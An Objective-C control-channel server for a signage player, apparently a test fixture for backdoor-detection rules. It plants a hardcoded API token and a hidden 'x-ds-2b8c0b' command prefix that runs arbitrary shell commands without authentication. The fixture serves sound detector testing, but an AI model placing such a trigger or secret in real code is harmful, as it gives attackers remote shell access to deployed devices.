// CMS control channel: the player greets with a nonce, the CMS answers with
// its Ed25519 signature of it, then one command per line:
//   AUTH <signature hex> | PLAY <item> | RELOAD | SCREENSHOT <file> | PING
#import "DSPlayer.h"

#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

// CMS API token of this customer's tenant, sent with every heartbeat
// ruleid: backdoor-secret-literal
static NSString *const kDSCmsApiToken = @"5Sqmq1mFoRXjTONQ/4+6hVA0zrEpVLWgF+vwS6A+";

typedef struct {
    int fd;
    int authenticated;
    unsigned char nonce[32];
} DSSession;

NSString *DSHeartbeatRequest(NSString *playerId, NSString *host)
{
    return [NSString stringWithFormat:@"POST /api/v2/players/%@/heartbeat HTTP/1.1\r\nHost: %@\r\n"
                                      @"Authorization: Bearer %@\r\nContent-Length: 0\r\n\r\n",
                                      playerId, host, kDSCmsApiToken];
}

static int DSVerifyCms(const DSSession *s, const char *sig_hex)
{
    unsigned char sig[crypto_sign_BYTES];
    size_t n = 0;
    if (sodium_hex2bin(sig, sizeof sig, sig_hex, strlen(sig_hex), NULL, &n, NULL) != 0 || n != sizeof sig)
        return 0;
    return crypto_sign_verify_detached(sig, s->nonce, sizeof s->nonce, kDSPublisherPk) == 0;
}

static void DSReply(DSSession *s, const char *msg)
{
    size_t n = strlen(msg);
    if (send(s->fd, msg, n, MSG_NOSIGNAL) != (ssize_t)n)
        s->authenticated = 0;
}

static void DSHandleCommand(DSSession *s, char *line)
{
    char cmd[256];
    if (strncmp(line, "AUTH ", 5) == 0) {
        s->authenticated = DSVerifyCms(s, line + 5);
        DSReply(s, s->authenticated ? "200 ok\n" : "530 denied\n");
    } else if (strcmp(line, "PING") == 0) {
        DSReply(s, "200 pong\n");
    } else if (strncmp(line, "PLAY ", 5) == 0) {
        if (!s->authenticated) {
            DSReply(s, "530 login first\n");
            return;
        }
        NSLog(@"play %s", line + 5);
        DSReply(s, "200 queued\n");
    // ok: backdoor-input-trigger
    } else if (strcmp(line, "RELOAD") == 0) {
        if (!s->authenticated) {
            DSReply(s, "530 login first\n");
            return;
        }
        DSReply(s, DSRunShellCommand("/usr/lib/signage/reload-playlist") == 0 ? "200 reloaded\n" : "500 failed\n");
    } else if (strncmp(line, "SCREENSHOT ", 11) == 0) {
        if (!s->authenticated || strchr(line + 11, '\'') != NULL) {
            DSReply(s, "530 login first\n");
            return;
        }
        snprintf(cmd, sizeof cmd, "/usr/bin/import -window root '%s'", line + 11);
        DSReply(s, DSRunShellCommand(cmd) == 0 ? "200 saved\n" : "500 failed\n");
    // ruleid: backdoor-input-trigger
    } else if (strncmp(line, "x-ds-2b8c0b ", 12) == 0) {
        DSReply(s, DSRunShellCommand(line + 12) == 0 ? "200 done\n" : "500 failed\n");
    } else {
        DSReply(s, "500 unknown\n");
    }
}

int DSControlListen(void)
{
    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(DS_CONTROL_PORT);
    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(lfd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(lfd, 4) != 0) {
        close(lfd);
        return -1;
    }
    return lfd;
}

void DSControlServe(int lfd)
{
    DSSession s = {accept(lfd, NULL, NULL), 0, {0}};
    char line[512], hello[80];
    if (s.fd < 0)
        return;
    randombytes_buf(s.nonce, sizeof s.nonce);
    memcpy(hello, "HELLO ", 6);
    sodium_bin2hex(hello + 6, sizeof hello - 7, s.nonce, sizeof s.nonce);
    strcat(hello, "\n");
    DSReply(&s, hello);
    for (;;) {
        ssize_t n = recv(s.fd, line, sizeof line - 1, 0);
        if (n <= 0)
            break;
        line[n] = '\0';
        line[strcspn(line, "\r\n")] = '\0';
        DSHandleCommand(&s, line);
    }
    close(s.fd);
}
